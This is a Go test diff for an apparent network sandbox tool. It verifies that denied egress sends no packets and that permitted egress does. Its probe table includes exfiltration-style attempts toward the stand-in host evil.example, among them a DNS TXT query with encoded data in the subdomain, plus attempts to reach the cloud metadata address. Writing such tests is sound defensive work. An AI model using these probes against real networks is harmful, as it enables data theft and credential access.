@@ -93,3 +93,46 @@ func TestRegistryDenied(t *testing.T) {
 		t.Errorf("no allowed query in:\n%s", redact(events))
 	}
 }
+
+// TestDeniedSendsNothing: what the policy denies is not even asked for. Each attempt has a rule under which it does leave.
+func TestDeniedSendsNothing(t *testing.T) {
+	tap := tapUplink(t)
+	run := func(t *testing.T, rule string, probe []string) []string {
+		cmd := exec.Command(filepath.Join(binDir(), "weir"), append([]string{"run", "-q", "--allow", rule, "--allow", otherwise,
+			"--share=" + filepath.Join(binDir(), "probe") + ":/run/probe:ro", "--", "/run/probe"}, probe...)...)
+		cmd.Env = stateOf(t)
+		out, err := cmd.CombinedOutput()
+		if text := string(out); rule == otherwise && err == nil && !strings.Contains(text, "NXDOMAIN") {
+			t.Errorf("it went well: %s", text)
+		}
+		return tap.sent(t)
+	}
+	for _, c := range []struct{ name, lifted, probe string }{
+		{"a name", "evil.example", "get http://evil.example/"},
+		{"a name asked for over TCP", "evil.example", "dns+tcp 10.77.0.1:53 evil.example A"},
+		{"data in a name", "*.evil.example", "dns 10.77.0.1:53 c3RvbGVu.evil.example TXT"},
+		{"an address", "203.0.113.66:80", "tcp 203.0.113.66:80 x"},
+		{"a closed port", "198.51.100.20:9", "tcp 198.51.100.20:9 x"},
+		{"a datagram", "198.51.100.20:7/udp", "udp 198.51.100.20:7 x"},
+		{"an IPv6 address", "[2001:db8:1::20]:7", "tcp [2001:db8:1::20]:7 x"},
+		{"a resolver of its own", "198.51.100.53:53", "dns 198.51.100.53:53 shop.example A"},
+		{"DNS over TLS", "198.51.100.10:853", "tls 198.51.100.10:853 shop.example"},
+		{"QUIC", "198.51.100.10:443", "get https3://198.51.100.10/"},
+		{"a private address", "10.1.2.3:5432", "tcp 10.1.2.3:5432 x"},
+		{"metadata", "169.254.169.254:80", "past 169.254.169.254:80 198.51.100.20:9"},
+		{"a black hole", "203.0.113.10:80", "past 203.0.113.10:80 198.51.100.20:9"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			probe := strings.Split(c.probe, " ")
+			if left := run(t, otherwise, probe); len(left) > 0 {
+				t.Errorf("denied, and yet %d packets left: %v", len(left), left)
+			}
+			if left := run(t, c.lifted, probe); len(left) == 0 {
+				t.Error("allowed, and yet no packet left: the count proves nothing")
+			}
+		})
+	}
+}
+
+// otherwise is a rule that covers none of the attempts.
+const otherwise = "shop.example"
